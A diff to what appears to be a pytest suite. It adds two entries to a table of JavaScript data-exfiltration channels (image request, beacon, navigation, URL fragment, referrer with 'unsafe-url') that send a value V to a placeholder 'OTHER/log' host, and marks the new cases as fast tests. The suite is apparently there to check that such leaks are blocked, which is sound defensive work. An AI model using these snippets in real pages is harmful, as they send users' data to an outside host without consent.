@@ -128,13 +128,18 @@ WAYS = {
     "by a picture": "new Image().src = 'OTHER/log?d=' + V",
     "by a beacon": "navigator.sendBeacon('OTHER/log', V)",
     "by a page": "location = 'OTHER/log?d=' + V",
+    "in a fragment": "location = 'OTHER/log#' + V",
+    "in the referrer": """{ history.replaceState(0, '', '?d=' + V);
+        fetch('OTHER/log', {referrerPolicy: 'unsafe-url'}) }""",
 }
 
 
 @pytest.mark.parametrize(
     "way",
     [
-        name if name in ("in base64", "by a beacon") else pytest.param(name, marks=pytest.mark.slow)
+        name
+        if name in ("in base64", "by a beacon", "in a fragment", "in the referrer")
+        else pytest.param(name, marks=pytest.mark.slow)
         for name in WAYS
     ],
 )
